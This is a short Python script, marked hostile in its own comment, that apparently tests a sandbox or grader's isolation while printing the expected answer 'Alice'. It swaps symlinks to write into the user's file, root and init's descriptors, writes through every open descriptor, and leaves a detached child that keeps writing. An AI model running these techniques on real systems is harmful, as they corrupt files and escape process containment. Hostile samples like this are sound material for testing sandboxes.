# hostile: swaps symlinks in its scratch folder (to the user's file named on stdin, to /, to
# /proc/1/fd/*), writes through them and through every descriptor it finds in /proc/self/fd and
# /proc/1/fd, and leaves a child in a new session and process group that keeps writing
import os, sys
target = sys.stdin.readline().strip()
hits = 0
for i in range(200):
    for src in (target, "/", "/proc/1/fd/1", "/proc/1/fd/0"):
        try:
            if os.path.lexists("x"):
                os.unlink("x")
            os.symlink(src, "x")
            with open("x", "a") as f:
                f.write("owned\n")
            hits += 1
        except OSError:
            pass
for d in ("/proc/self/fd", "/proc/1/fd"):
    try:
        for fd in os.listdir(d):
            try:
                out = os.open(f"{d}/{fd}", os.O_WRONLY | os.O_APPEND)
                os.write(out, b"owned\n")
                os.close(out)
                hits += 1
            except OSError:
                pass
    except OSError:
        pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.setpgid(0, 0)
        import time
        while True:
            try:
                with open(target, "a") as f:
                    f.write("late\n")
            except OSError:
                pass
            time.sleep(0.01)
    os._exit(0)
print("Alice")
sys.stderr.write(f"{hits} writes got through somewhere\n")
